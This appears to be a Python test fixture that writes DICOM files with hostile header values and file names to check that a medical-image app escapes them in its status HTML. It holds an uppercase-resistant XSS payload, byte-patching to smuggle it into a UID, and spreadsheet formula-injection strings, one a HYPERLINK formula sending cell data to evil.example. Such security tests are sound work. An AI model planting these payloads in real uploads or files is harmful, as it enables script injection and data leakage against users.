"""Uploads whose header values or names are markup or spreadsheet formulas (issue 28, items 1 and 7).

``xss_files(dir)`` writes one file per way a value from the upload reaches the app's
status HTML: the Transfer Syntax UID and SOP Class UID (quoted in refusals), Modality
(refused by the app), Body Part Examined and View Position (warnings) and the file name.
The payload is an ``<img onerror>`` whose handler is entity-encoded, so upper-casing the
value (as the reader does for CS values) does not disarm it; it sets ``window.__xss``.
Only numpy and pydicom.
"""

from __future__ import annotations

import contextlib
import struct
from collections.abc import Iterator
from pathlib import Path

import numpy as np


def entity(js: str) -> str:
    return "".join(f"&#{ord(c)};" for c in js)


XSS = f"<img src=x onerror={entity('window.__xss=1')}>"  # survives .upper()
XSS_NAME = "<img src=x onerror=window.__xss=1> R&amp;D.dcm"  # Gradio drops < and > from names; & stays
FORMULAS = ('=HYPERLINK("evil.example?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tTAB", "\rCR")


@contextlib.contextmanager
def unvalidated() -> Iterator[None]:
    """Let pydicom write values that break their VR (as a hostile sender does)."""
    from pydicom import config

    old = config.settings.writing_validation_mode
    config.settings.writing_validation_mode = config.IGNORE
    try:
        yield
    finally:
        config.settings.writing_validation_mode = old


def xss_files(directory: Path) -> dict[str, tuple[Path, str]]:
    """name -> (file, text the page must show literally), one per route into the status HTML."""
    from corpus.bad_inputs import chest, dicom_dataset

    directory.mkdir(parents=True, exist_ok=True)
    g16 = chest().astype(np.uint16) * 16
    private = "1.2.826.0.1.3680043.9.9999.1"
    with unvalidated():
        datasets = {
            "ts.dcm": dicom_dataset(g16, bits_stored=12),
            "sop.dcm": dicom_dataset(None, SOPClassUID=XSS),
            "modality.dcm": dicom_dataset(g16, bits_stored=12, modality=XSS),
            "body.dcm": dicom_dataset(g16, bits_stored=12, BodyPartExamined=XSS),
            "view.dcm": dicom_dataset(g16, bits_stored=12, view=XSS),
            XSS_NAME: dicom_dataset(g16, bits_stored=12),
        }
        datasets["ts.dcm"].file_meta.TransferSyntaxUID = private
        for name, ds in datasets.items():
            ds.save_as(directory / name, enforce_file_format=True, implicit_vr=False, little_endian=True)
    # pydicom refuses to write a Transfer Syntax UID that is not a UID: patch the file's bytes
    ts = directory / "ts.dcm"
    value = ("1.2.840.10008.1.2.1" + XSS).encode()
    value += b"\0" * (len(value) % 2)
    old = b"\x02\x00\x10\x00UI" + struct.pack("<H", len(private)) + private.encode()
    ts.write_bytes(
        ts.read_bytes().replace(old, b"\x02\x00\x10\x00UI" + struct.pack("<H", len(value)) + value)
    )
    upper = XSS.upper()
    return {
        "ts.dcm": (ts, f"unsupported transfer syntax 1.2.840.10008.1.2.1{XSS}"),
        "sop.dcm": (directory / "sop.dcm", f"SOP class {XSS}"),
        "modality.dcm": (directory / "modality.dcm", f"DICOM modality is {upper}"),
        "body.dcm": (directory / "body.dcm", f"body part examined is {upper}"),
        "view.dcm": (directory / "view.dcm", f"view ({upper})"),
        "name": (directory / XSS_NAME, "R&amp;D.dcm"),  # unescaped, a browser shows "R&D.dcm"
    }
